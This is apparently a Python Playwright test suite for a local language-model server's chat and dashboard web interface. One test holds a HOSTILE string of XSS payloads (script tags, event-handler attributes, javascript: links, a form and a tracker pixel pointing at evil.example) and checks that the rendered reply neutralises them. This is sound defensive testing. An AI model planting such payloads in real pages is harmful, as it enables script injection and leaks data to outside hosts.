"""Chat and dashboard as a person uses them."""

import json
import re
import threading
import time

import pytest
from client_tools import MODEL, Server, run_sluice, with_cards

IS_REPLYING = "() => document.querySelector('#send').classList.contains('stop')"
PROMPT_HAS_FOCUS = "() => document.activeElement.id === 'prompt'"
IS_QUIET = "() => !document.querySelector('#send').classList.contains('stop')"


def until(page, expression, seconds=20):
    """Until it holds in the page; Playwright's own wait needs what the page's policy forbids."""
    end = time.monotonic() + seconds
    while not page.evaluate(expression):
        assert time.monotonic() < end, f"not so after {seconds} s: {expression}"
        page.wait_for_timeout(20)


def send(page, text):
    page.fill("#prompt", text)
    page.press("#prompt", "Enter")


def limit_reply(page, tokens):
    """In the settings of this chat; greedy, so that it is the same each time."""
    page.click("#settings")
    page.fill("#set-num_predict", str(tokens))
    page.fill("#set-temperature", "0")
    page.press("#settings-dialog", "Escape")


def wait_for_reply(page):
    page.wait_for_selector(".message.assistant")
    until(page, IS_QUIET)


def last_reply(page):
    return page.locator(".message.assistant").last


def text_of_reply(page):
    return last_reply(page).locator(":scope > .markdown")


def lines(*objects):
    return "".join(json.dumps(line) + "\n" for line in objects)


def answer_with(page, content):
    """The page's next replies are this text."""
    body = lines({"message": {"role": "assistant", "content": content}, "done": False},
                 {"message": {"role": "assistant", "content": ""}, "done": True,
                  "done_reason": "stop", "eval_count": 3, "eval_duration": 10**9,
                  "sluice": {"finish_reason": "end_of_sequence"}})
    page.route("**/api/chat", lambda route: route.fulfill(
        status=200, content_type="application/x-ndjson", body=body))


def test_a_chat_streams_and_is_kept_in_the_browser(server, pages, shot):
    page = pages.open(server.url)
    shot(page, "chat-empty")
    limit_reply(page, 40)
    send(page, "Name three colours.")
    wait_for_reply(page)
    text = text_of_reply(page).inner_text()
    assert text.strip()
    stats = last_reply(page).locator(".stats").inner_text()
    assert re.search(r"\d+ tokens? · [\d.,]+ tokens/s · first after", stats), stats
    assert "ended: " in stats
    shot(page, "chat-reply")
    assert page.locator(".conversations .title").inner_text() == "Name three colours."
    page.reload()
    page.click(".conversations .title")
    assert text_of_reply(page).inner_text() == text
    # The next message goes on from there.
    asked = []
    page.on("request", lambda request: asked.append(request.post_data)
            if request.url.endswith("/api/chat") else None)
    send(page, "And three more?")
    wait_for_reply(page)
    roles = [message["role"] for message in json.loads(asked[-1])["messages"]]
    assert roles == ["user", "assistant", "user"]
    assert json.loads(asked[-1])["options"] == {"temperature": 0, "num_predict": 40}


@pytest.mark.usefixtures("long_replies")
def test_a_reply_stops_at_once(server, pages):
    page = pages.open(server.url)
    limit_reply(page, 400)
    for way in ("button", "Escape"):
        page.click("#new-chat")
        send(page, "Write a very long story about a river.")
        until(page, IS_REPLYING)
        server.wait_for(lambda status: status["num_running"] == 1, 20)
        if way == "button":
            page.click("#send")
        else:
            page.keyboard.press("Escape")
        until(page, IS_QUIET)
        server.wait_until_idle(10)
        assert "ended: stopped" in last_reply(page).inner_text()
    assert page.locator(".error").count() == 0


@pytest.mark.usefixtures("long_replies")
def test_a_stopped_reply_has_its_timings(server, pages):
    page = pages.open(server.url)
    limit_reply(page, 600)
    send(page, "Write a very long story about a river.")
    until(page, "() => document.querySelector('.message.assistant > .markdown').innerText.length > 80")
    page.keyboard.press("Escape")
    until(page, IS_QUIET)
    stats = last_reply(page).locator(".stats").inner_text()
    assert re.search(r"\d+ tokens · [\d.,]+ tokens/s · first after [\d.]+ m?s · ended: stopped", stats), stats


def test_what_is_under_way_can_be_edited(server, pages):
    page = pages.open(server.url)
    limit_reply(page, 600)
    send(page, "Write a very long story about a river.")
    server.wait_for(lambda status: status["num_running"] == 1, 20)
    page.locator(".message.user").hover()
    page.get_by_label("Edit and send again").click()
    area = page.get_by_label("Edit the message")
    server.wait_until_idle(10)
    page.wait_for_timeout(300)
    assert area.input_value() == "Write a very long story about a river.", "the reply's end leaves it"
    answer_with(page, "Two.")
    area.fill("Say two.")
    area.press("Enter")
    wait_for_reply(page)
    assert page.locator(".message").count() == 2
    assert text_of_reply(page).inner_text() == "Two."


@pytest.mark.usefixtures("long_replies")
def test_another_reply_takes_the_place_of_those_behind_it(server, pages):
    page = pages.open(server.url)
    answer_with(page, "First.")
    send(page, "one")
    wait_for_reply(page)
    page.unroute("**/api/chat")
    limit_reply(page, 600)
    send(page, "Write a very long story about a river.")
    server.wait_for(lambda status: status["num_running"] == 1, 20)
    limit_reply(page, 300)
    page.get_by_label("Another reply").first.click()
    until(page, IS_REPLYING)
    page.wait_for_timeout(200)
    assert page.evaluate(IS_REPLYING), "the end of the one before is not that of this one"
    until(page, IS_QUIET)
    assert page.locator(".message").count() == 2
    assert "ended: " in last_reply(page).inner_text() and "stopped" not in last_reply(page).inner_text()
    server.wait_until_idle(10)


def test_a_chat_is_removed_while_its_reply_comes(server, pages):
    page = pages.open(server.url)
    limit_reply(page, 600)
    for way in ("one", "all"):
        for text in ("Write a very long story about a river.",) if way == "one" else ("a", "b"):
            page.click("#new-chat")
            page.click("#send") if page.evaluate(IS_REPLYING) else None
            send(page, text)
            server.wait_for(lambda status: status["num_running"] == 1, 20)
        if way == "one":
            page.get_by_label("Remove “").click()
            page.get_by_role("button", name="Remove", exact=True).click()
        else:
            page.get_by_role("button", name="Remove all").click()
            page.locator("#confirm-dialog").get_by_role("button", name="Remove all").click()
        server.wait_until_idle(10)
        page.wait_for_timeout(200)
        assert page.locator(".conversations .title").count() == 0
        page.reload()
        page.get_by_role("heading", name="What is on your mind?").wait_for()
        assert page.locator(".conversations .title").count() == 0, "it does not come back"


@pytest.mark.usefixtures("long_replies")
def test_a_page_that_is_left_keeps_the_reply_so_far(server, pages):
    page = pages.open(server.url)
    limit_reply(page, 900)
    send(page, "Write a very long story about a river.")
    until(page, "() => document.querySelector('.message.assistant > .markdown').innerText.length > 80")
    page.wait_for_timeout(1500)  # it is saved each second
    page.reload()
    page.click(".conversations .title")
    assert len(text_of_reply(page).inner_text()) > 80
    assert "ended: the page was closed" in last_reply(page).inner_text()
    server.wait_until_idle(20)


def test_a_browser_that_keeps_nothing_can_chat(server, pages):
    context = pages.browser.new_context(viewport={"width": 1280, "height": 820}, reduced_motion="reduce")
    pages.contexts.append(context)
    context.add_init_script("""for (const name of ['localStorage', 'sessionStorage', 'indexedDB']) {
      Object.defineProperty(window, name, { get() { throw new DOMException('denied', 'SecurityError'); } });
    }""")
    page = pages.open(server.url, context=context)
    page.get_by_text("This browser does not let the page keep chats").wait_for()
    answer_with(page, "Fine.")
    send(page, "How are you?")
    wait_for_reply(page)
    assert text_of_reply(page).inner_text() == "Fine."
    page.click("#theme")
    assert page.get_attribute("#theme", "aria-label") == "Colours: light"
    page.click("#tab-dashboard")
    page.wait_for_selector(".tile")


def test_what_is_no_reply_is_said(server, pages):
    page = pages.open(server.url)
    page.route("**/api/chat", lambda route: route.fulfill(status=200, body="<html>Sign in</html>\n"))
    send(page, "hi")
    page.wait_for_selector(".message .error")
    assert "The server sent what is no reply." in page.inner_text(".message .error")


def test_another_reply_and_an_edited_message(server, pages):
    page = pages.open(server.url)
    limit_reply(page, 8)
    send(page, "Say one.")
    wait_for_reply(page)
    last_reply(page).get_by_label("Another reply").click()
    until(page, IS_QUIET)
    assert page.locator(".message").count() == 2
    page.locator(".message.user").hover()
    page.get_by_label("Edit and send again").click()
    page.get_by_label("Edit the message").fill("Say two.")
    page.get_by_role("button", name="Send", exact=True).first.click()
    wait_for_reply(page)
    assert page.locator(".message").count() == 2
    assert page.locator(".message.user .markdown").inner_text() == "Say two."


def test_an_error_is_said_and_can_be_tried_again(server, pages, shot):
    page = pages.open(server.url)
    page.route("**/api/chat", lambda route: route.fulfill(
        status=500, content_type="application/json", body='{"error":"the disk is on fire"}'))
    send(page, "hi")
    page.wait_for_selector(".message .error")
    assert "The disk is on fire." in page.inner_text(".message .error")
    shot(page, "chat-error")
    page.unroute("**/api/chat")
    limit_reply(page, 3)
    page.get_by_role("button", name="Try again").click()
    wait_for_reply(page)
    assert page.locator(".error").count() == 0


def test_a_reply_that_breaks_off_is_kept(server, pages):
    page = pages.open(server.url)
    page.route("**/api/chat", lambda route: route.fulfill(
        status=200, content_type="application/x-ndjson",
        body=lines({"message": {"role": "assistant", "content": "so far"}, "done": False})))
    send(page, "hi")
    page.wait_for_selector(".message .error")
    assert "broke off" in page.inner_text(".message .error")
    assert "so far" in last_reply(page).inner_text()


def test_a_server_that_goes_away(home, pages, shot):
    server = Server(home)
    page = pages.open(server.url)
    assert page.inner_text("#connection") == "ready"
    server.stop()
    send(page, "hi")
    page.wait_for_selector(".message .error")
    assert "cannot be reached" in page.inner_text(".message .error")
    page.click("#tab-dashboard")
    page.wait_for_selector("#connection.bad")
    page.wait_for_selector("#board-fault")
    shot(page, "dashboard-no-server")


class Crowd:
    """Clients that keep the server's one place and its queue full, until they are sent home."""

    def __init__(self, server, count):
        self.server = server
        self.is_over = threading.Event()
        self.threads = [threading.Thread(target=self.talk, args=(n,)) for n in range(count)]
        for thread in self.threads:
            thread.start()

    def talk(self, number):
        while not self.is_over.is_set():
            status, _ = self.server.post("/api/generate", {
                "model": MODEL, "prompt": f"{number} rivers", "stream": False, "ignore_eos": True,
                "options": {"num_predict": 150, "num_ctx": 8192}})
            if status == 503:
                time.sleep(0.01)

    def leave(self):
        self.is_over.set()
        for thread in self.threads:
            thread.join()


def test_a_full_queue_is_said(home, pages, shot):
    # 64 run at once and one waits: the 66th is refused.
    server = Server(home, "--max-queue", "1")
    page = pages.open(server.url)
    server.post("/api/generate", {"model": MODEL})
    crowd = Crowd(server, 80)
    try:
        server.wait_for(lambda status: status["num_waiting"] >= 1, 60)
        for _ in range(20):  # now and then there is room for a moment
            page.click("#new-chat")
            send(page, "Is there room?")
            page.wait_for_selector(".message .error, .message.assistant .stats")
            if page.locator(".message .error").count():
                break
            page.click("#send") if page.evaluate(IS_REPLYING) else None
        assert "The server is full" in page.inner_text(".message .error")
        assert "try again in" in page.inner_text(".message .error")
        shot(page, "chat-full-queue")
    finally:
        crowd.leave()
        server.stop()


def test_waiting_shows_the_place_in_the_queue(server, pages, shot):
    page = pages.open(server.url)
    held = threading.Event()

    def answer(route):
        held.wait(20)
        route.abort()

    # Lines come one by one only from a real stream: the page's own reader gets them.
    page.evaluate("""() => {
      const real = window.fetch;
      window.fetch = (url, options) => {
        if (!String(url).endsWith('/api/chat')) return real(url, options);
        const stream = new ReadableStream({ start(controller) {
          window.feed = (line) => controller.enqueue(new TextEncoder().encode(JSON.stringify(line) + '\\n'));
        } });
        return Promise.resolve(new Response(stream, { status: 200 }));
      };
    }""")
    send(page, "hi")
    status = page.locator(".message.assistant .status")
    until(page, "() => Boolean(window.feed)")
    page.evaluate("feed({status: 'loading', progress: 0.42, done: false})")
    status.get_by_text("Loading the model: 42%").wait_for()
    page.evaluate("feed({status: 'queued', queue_position: 3, estimated_wait: 4.5, done: false})")
    status.get_by_text("Number 3 in the queue, about 4.5 s").wait_for()
    shot(page, "chat-queued")
    page.evaluate("feed({message: {thinking: 'Let me see.'}, done: false})")
    page.evaluate("feed({message: {content: 'Here.'}, done: false})")
    page.get_by_text("Here.").wait_for()
    assert status.is_hidden()
    assert page.locator(".thinking summary").inner_text() == "Thinking"
    page.evaluate("feed({done: true, eval_count: 2, eval_duration: 1e9})")
    until(page, IS_QUIET)


HOSTILE = """Hello <script>window.pwned = 1</script> <img src=x onerror="window.pwned = 2">
<svg onload="window.pwned = 3"></svg> <iframe src="javascript:parent.pwned=4"></iframe>

![tracker](http://evil.example/pixel.png?secret) [click](javascript:window.pwned=5)
[data](data:text/html,<script>1</script>) [good](https://example.com/a?b=c)

<style>body { display: none }</style><form action="http://evil.example"><input name=a></form>
<a href="https://example.com" onclick="window.pwned=6" style="position:fixed;inset:0">x</a>

```html"><img src=x onerror=window.pwned=7>
<script>window.pwned = 8</script>
```

| a | b |
|---|---|
| <b onmouseover="window.pwned=9">1</b> | `<script>` |

- [x] done
"""


def test_what_a_model_writes_can_do_nothing(server, pages, shot):
    page = pages.open(server.url)
    answer_with(page, HOSTILE)
    send(page, "hi")
    wait_for_reply(page)
    reply = text_of_reply(page)
    reply.locator("table").wait_for()
    assert page.evaluate("() => window.pwned") is None
    for tag in ("script", "img", "iframe", "style", "form", "svg:not(.icon svg)", "b"):
        assert reply.locator(tag).count() == (1 if tag.startswith("svg") else 0) \
            or tag.startswith("svg"), tag
    assert reply.locator("svg[onload]").count() == 0
    links = reply.locator("a").evaluate_all("all => all.map((a) => a.getAttribute('href'))")
    assert set(links) <= {None, "http://evil.example/pixel.png?secret", "https://example.com/a?b=c"}
    assert "https://example.com/a?b=c" in links
    assert all(rel == "noopener noreferrer nofollow" for rel in
               reply.locator("a").evaluate_all("all => all.map((a) => a.rel)"))
    attributes = reply.evaluate(
        "node => [...node.querySelectorAll('*')].flatMap((e) => e.getAttributeNames())")
    assert not [name for name in attributes if name.startswith("on") or name == "style"]
    assert "<script>window.pwned = 1</script>" in reply.inner_text(), "it is shown as what it is"
    assert "evil.example" not in pages.hosts
    shot(page, "chat-hostile")


def test_markdown_looks_like_what_it_means(server, pages, shot):
    page = pages.open(server.url)
    answer_with(page, "# Rivers\n\nThey are **long** and *wet*:\n\n1. Nile\n2. Rhine\n   - Main\n\n"
                      "> Quoted.\n\n```python\ndef add(a, b):\n    return a + b\n```\n\n"
                      "| River | km |\n|---|--:|\n| Nile | 6650 |\n\n- [x] seen\n- [ ] swum\n")
    send(page, "Tell me of rivers.")
    wait_for_reply(page)
    reply = last_reply(page)
    assert reply.locator("ol > li").count() == 2
    assert reply.locator("pre").inner_text() == "def add(a, b):\n    return a + b\n"
    assert reply.locator(".code-head span").inner_text() == "python"
    assert reply.locator("th").all_inner_texts() == ["River", "km"]
    assert reply.locator("td").last.evaluate("cell => getComputedStyle(cell).textAlign") == "right"
    boxes = reply.locator("li input[type=checkbox]:disabled")
    assert boxes.evaluate_all("all => all.map((box) => box.checked)") == [True, False]
    shot(page, "chat-markdown")


def test_nothing_comes_from_elsewhere(server, pages):
    page = pages.open(server.url)
    page.click("#tab-dashboard")
    page.wait_for_selector(".tile")
    assert pages.hosts == {f"{server.host}:{server.port}"}
    refused = page.evaluate("""async () => {
      const faults = [];
      document.addEventListener('securitypolicyviolation', (e) => faults.push(e.effectiveDirective));
      const script = document.createElement('script');
      try {
        script.textContent = 'window.pwned = 1';
        document.body.append(script);
      } catch { faults.push('script'); }
      try { document.body.insertAdjacentHTML('beforeend', '<i>x</i>'); } catch { faults.push('html'); }
      await new Promise((resolve) => setTimeout(resolve, 100));
      return [window.pwned ?? null, faults.length];
    }""")
    assert refused[0] is None and refused[1] >= 2
    pages.faults.clear()  # these were what the policy is for


def number(text):
    return float(re.sub(r"[^\d.]", "", text) or 0)


@pytest.mark.usefixtures("long_replies")
def test_the_dashboard_is_live(home, pages, shot):
    server = Server(home)
    page = pages.open(server.url + "/#dashboard")
    page.wait_for_selector(".tile")
    assert "None. A model is loaded" in page.inner_text(".models")
    crowd = Crowd(server, 4)
    try:
        until(page, "() => document.querySelector('.models h3')")
        running = page.locator(".tile", has_text="Running").locator(".value")
        until(
            page,
            "() => [...document.querySelectorAll('.tile')].some((tile) =>"
            " tile.innerText.startsWith('Running') && tile.querySelector('.value').innerText === '4')")
        speed = page.locator(".tile", has_text="Generation").locator(".value")
        page.wait_for_timeout(4000)
        assert number(speed.inner_text()) > 1
        assert running.inner_text() == "4"
        assert page.locator(".chart").count() >= 7
        # Something is drawn in each, also over time.
        drawn = page.locator(".chart canvas").evaluate_all("""all => all.map((canvas) => {
          const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height);
          return new Set(new Uint32Array(data.buffer)).size;
        })""")
        assert all(colours > 10 for colours in drawn), drawn
        label = page.locator(".chart canvas").first.get_attribute("aria-label")
        assert re.match(r"Tokens a second: generated \d", label), label
        assert page.locator(".requests .state.running").count() == 4
        assert page.locator(".cores li").count() >= 1
        assert "engine" in page.inner_text(".threads")
        shot(page, "dashboard")
        page.wait_for_selector(".requests .state.ended")
    finally:
        crowd.leave()
    server.wait_until_idle(20)
    until(page, "() => !document.querySelector('.requests .state.running')")
    page.locator(".requests tbody button").first.click()
    page.wait_for_selector(".life-picture")
    words = page.inner_text("#life-dialog .words")
    assert "The first token came" in words and "steps" in words
    assert page.locator(".life-picture .span").count() > 5
    shot(page, "life")
    page.keyboard.press("Escape")
    page.locator("#life-dialog").wait_for(state="hidden")
    server.stop()


def test_the_dashboard_has_the_data_of_top(home, pages, shot):
    server = Server(home, "--max-queue", "40")
    page = pages.open(server.url + "/#dashboard")
    server.post("/api/generate", {"model": MODEL})
    crowd = Crowd(server, 70)
    try:
        server.wait_for(lambda status: status["num_waiting"] >= 3, 60)
        page.locator(".requests .state.waiting").first.wait_for()
        states = page.locator(".requests .state").all_inner_texts()
        first_waiting = next(i for i, state in enumerate(states) if state.startswith("number "))
        assert all(state.startswith(("prompt ", "replying")) for state in states[:first_waiting]), states
        assert re.fullmatch(r"number 1(, about .+)?", states[first_waiting]), states
        waiting = page.locator(".tile", has_text="Waiting")
        until(page, "() => [...document.querySelectorAll('.tile')].some((tile) =>"
                    " tile.innerText.startsWith('Waiting') && tile.innerText.includes('for a place'))")
        row = page.locator(".requests tbody tr").first
        assert row.locator("[data-label=Client]").inner_text() == "127.0.0.1"
        until(page, "() => /\\d/.test(document.querySelector('.requests [data-label=\"Tokens/s\"]').innerText)")
        assert waiting.count() == 1
        shot(page, "dashboard-queue")
    finally:
        crowd.leave()
    server.wait_until_idle(30)
    page.wait_for_timeout(1200)
    totals = page.inner_text("#totals-line")
    assert re.match(r"[\d,]+ requests done", totals), totals
    machine = page.inner_text("#machine-line")
    assert re.search(r"\d+ cores? · load [\d. ]+ · .*memory free", machine), machine
    assert page.locator(".chart", has_text="Disks").locator("canvas").count() == 1
    assert page.locator("#others td").count() >= 1
    server.stop()


def test_cards_are_watched_too(home, pages, shot):
    server = Server(home, environment=with_cards())
    page = pages.open(server.url + "/#dashboard")
    crowd = Crowd(server, 2)
    try:
        for title in ("GPU", "GPU power", "GPU temperature", "GPU clock"):
            page.get_by_role("heading", name=title, exact=True).wait_for()
        page.locator(".tile", has_text=" J each").wait_for()
        assert page.locator(".chart", has_text="GPU temperature").locator("strong").inner_text() == "61 °C"
        assert page.locator(".chart", has_text="GPU clock").locator("strong").inner_text() == "1410 MHz"
        until(page, "() => [...document.querySelectorAll('.chart')].some((chart) =>"
                    " chart.innerText.startsWith('GPU power') && chart.innerText.includes('300 W'))")
        assert "GPU 0: Fake H200" in page.inner_text("#machine-line")
        shot(page, "dashboard-cards")
    finally:
        crowd.leave()
    server.stop()


@pytest.mark.usefixtures("long_replies")
def test_a_request_is_cancelled_from_its_life(server, pages, shot):
    page = pages.open(server.url + "/#dashboard")
    thread = threading.Thread(target=server.post, args=("/api/generate", {
        "model": MODEL, "prompt": "A river", "ignore_eos": True, "options": {"num_predict": 4000}}))
    thread.start()
    page.locator(".requests tr", has=page.locator(".state.running")).locator("button").click()
    cancel = page.get_by_role("button", name="Cancel this request")
    cancel.focus()
    page.wait_for_timeout(1200)  # what is told meanwhile does not take it away
    assert page.evaluate("() => document.activeElement.innerText") == "Cancel this request"
    shot(page, "life-under-way")
    cancel.click()
    page.wait_for_selector("#life-dialog .life-picture")
    assert "stopped" in page.inner_text("#life-dialog .facts")
    assert cancel.count() == 0
    thread.join()


def test_rates_are_taken_over_a_while(server, pages):
    page = pages.open(server.url)
    told = server.status()
    calls = []

    def answer(route):
        calls.append(1)
        told["totals"]["num_output_tokens"] += 20
        route.fulfill(status=200, content_type="application/json", body=json.dumps(told))

    page.route("**/api/sluice/status", answer)
    page.wait_for_timeout(600)
    most = page.evaluate("""async () => {
      const { lookAgain, samples } = await import('./web/watch.js');
      for (let i = 0; i < 4; i += 1) {
        lookAgain();
        await new Promise((resolve) => setTimeout(resolve, 30));
      }
      await new Promise((resolve) => setTimeout(resolve, 200));
      return Math.max(...samples.map((sample) => sample.outputSpeed));
    }""")
    assert len(calls) >= 4
    assert most <= 20 * 4 / 0.5, "looking again at once is no speed"


def test_a_reply_leads_to_its_life(server, pages):
    page = pages.open(server.url)
    limit_reply(page, 5)
    send(page, "hi")
    wait_for_reply(page)
    page.get_by_role("button", name="explain").click()
    page.wait_for_selector("#life-dialog .words")
    assert "/api/chat" in page.inner_text("#life-dialog")


@pytest.mark.usefixtures("long_replies")
def test_a_life_under_way_is_followed_to_its_end(server, pages):
    page = pages.open(server.url)
    limit_reply(page, 600)
    send(page, "Write a very long story about a river.")
    until(page, IS_REPLYING)
    page.click("#tab-dashboard")
    page.locator(".requests tr", has=page.locator(".state.running")).locator("button").click()
    page.get_by_text("Under way for").wait_for()
    page.wait_for_selector("#life-dialog .life-picture")


def test_keys_of_the_api(home, tmp_path, pages, shot):
    folder = tmp_path / "keyed"
    folder.mkdir()
    (folder / "models").symlink_to(home / "models")
    key = run_sluice("key", "add", "page", "--scope", "all", home=folder).stdout.strip()
    infer = run_sluice("key", "add", "chat", "--scope", "infer", home=folder).stdout.strip()
    server = Server(folder)
    try:
        page = pages.open(server.url)
        page.get_by_text("This server wants an API key.").wait_for()
        shot(page, "key")
        page.keyboard.press("Escape")
        page.get_by_role("heading", name="This server wants an API key").wait_for()
        assert page.inner_text("#connection") == "needs an API key"
        page.get_by_role("button", name="Enter a key").click()
        page.fill("#api-key", "wrong")
        page.press("#api-key", "Enter")
        page.get_by_text("The server did not take this API key.").wait_for()
        page.fill("#api-key", infer)
        page.press("#api-key", "Enter")
        until(page, "() => document.querySelector('#model').value")
        limit_reply(page, 3)
        send(page, "hi")
        wait_for_reply(page)
        assert page.locator(".error").count() == 0
        page.click("#tab-dashboard")
        page.wait_for_selector("#board-fault")
        assert "scope" in page.inner_text("#board-fault")
        assert page.evaluate("() => localStorage.getItem('sluice-key')") is None
        assert page.evaluate("() => sessionStorage.getItem('sluice-key')") == infer
        # Another tab is another person's, as far as the page knows.
        other = pages.open(server.url + "/#dashboard")
        other.wait_for_selector("#key-dialog[open]")
        other.fill("#api-key", key)
        other.press("#api-key", "Enter")
        other.wait_for_selector(".tile")
    finally:
        server.stop()


def test_colours_follow_the_system_or_the_choice(server, pages):
    page = pages.open(server.url, theme="dark")
    colour = "() => getComputedStyle(document.body).backgroundColor"
    dark = page.evaluate(colour)
    page.click("#theme")
    light = page.evaluate(colour)
    assert light != dark
    page.reload()
    page.wait_for_selector("#prompt")
    assert page.evaluate(colour) == light
    page.click("#theme")
    assert page.evaluate(colour) == dark


def test_everything_is_reached_by_keyboard(server, pages, shot):
    page = pages.open(server.url)
    until(page, PROMPT_HAS_FOCUS)  # one can write at once
    page.evaluate("() => document.activeElement.blur()")
    page.keyboard.press("?")
    page.wait_for_selector("#help-dialog[open]")
    shot(page, "help")
    page.keyboard.press("Escape")
    page.locator("#help-dialog").wait_for(state="hidden")
    page.keyboard.press("/")
    until(page, PROMPT_HAS_FOCUS)
    page.keyboard.type("one")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("two/?")
    assert page.input_value("#prompt") == "one\ntwo/?"
    page.keyboard.press("Alt+d")
    page.wait_for_selector(".tile")
    page.keyboard.press("/")
    until(page, PROMPT_HAS_FOCUS)  # a field that is still hidden would not take it
    page.keyboard.press("Alt+d")
    page.wait_for_selector(".tile")
    page.keyboard.press("Alt+n")
    page.locator("#chat").wait_for()
    until(page, PROMPT_HAS_FOCUS)
    reached = set()
    for _ in range(30):
        page.keyboard.press("Tab")
        reached.add(page.evaluate("() => document.activeElement.id || document.activeElement.className"))
    assert {"skip", "new-chat", "model", "settings", "messages", "prompt", "send", "theme"} <= reached


def test_chats_are_removed(server, pages):
    page = pages.open(server.url)
    answer_with(page, "Fine.")
    for text in ("first", "second"):
        page.click("#new-chat")
        send(page, text)
        wait_for_reply(page)
    assert page.locator(".conversations .title").all_inner_texts() == ["second", "first"]
    page.get_by_label("Remove “first”").click()
    page.get_by_role("button", name="Cancel").click()
    assert page.locator(".conversations .title").count() == 2
    page.get_by_label("Remove “first”").click()
    page.get_by_role("button", name="Remove", exact=True).click()
    until(page, "() => document.querySelectorAll('.conversations .title').length === 1")
    page.reload()
    page.wait_for_selector(".conversations .title")
    assert page.locator(".conversations .title").all_inner_texts() == ["second"]


def test_a_chat_is_saved_as_markdown(server, pages):
    page = pages.open(server.url)
    answer_with(page, "Fine.")
    send(page, "How are you?")
    wait_for_reply(page)
    with page.expect_download() as download:
        page.click("#export")
    text = download.value.path().read_text()
    assert "# How are you?" in text and "Fine." in text
    assert download.value.suggested_filename == "How are you.md"


@pytest.mark.usefixtures("long_replies")
@pytest.mark.parametrize("theme", ["light", "dark"])
def test_a_phones_width(server, pages, shot, theme):
    page = pages.open(server.url, width=390, height=780, theme=theme, has_touch=True)
    answer_with(page, "A table:\n\n| one | two | three | four | five | six |\n|---|---|---|---|---|---|\n"
                      "| 1111111 | 22222222 | 3333333 | 4444444 | 5555555 | 6666666 |\n\n"
                      f"```\n{'long line ' * 20}\n```\n\n{'unbroken' * 30}")
    send(page, "Something wide?")
    wait_for_reply(page)

    def has_no_sideways_scroll():
        return page.evaluate("() => document.scrollingElement.scrollWidth <= innerWidth && "
                             "document.querySelector('#messages').scrollWidth <= innerWidth && "
                             "document.querySelector('#dashboard').scrollWidth <= innerWidth")

    assert has_no_sideways_scroll()
    shot(page, f"phone-{theme}-chat")
    page.locator("#sidebar").wait_for(state="hidden")
    page.click("#menu")
    page.locator("#sidebar").wait_for()
    shot(page, f"phone-{theme}-chats")
    page.keyboard.press("Escape")
    page.locator("#sidebar").wait_for(state="hidden")
    page.unroute("**/api/chat")
    limit_reply(page, 600)
    send(page, "Write a very long story about a river.")
    until(page, IS_REPLYING)
    page.click("#menu")
    page.keyboard.press("Escape")
    page.locator("#sidebar").wait_for(state="hidden")
    assert page.evaluate(IS_REPLYING), "that was for the list of chats"
    page.keyboard.press("Escape")
    until(page, IS_QUIET)
    limit_reply(page, 20)
    send(page, "hi")
    wait_for_reply(page)
    page.click("#tab-dashboard")
    page.wait_for_selector(".requests tbody button")
    page.wait_for_timeout(1500)
    assert has_no_sideways_scroll()
    shot(page, f"phone-{theme}-dashboard")
    page.locator(".requests tbody button").first.click()
    page.wait_for_selector(".life-picture")
    assert has_no_sideways_scroll()
    shot(page, f"phone-{theme}-life")
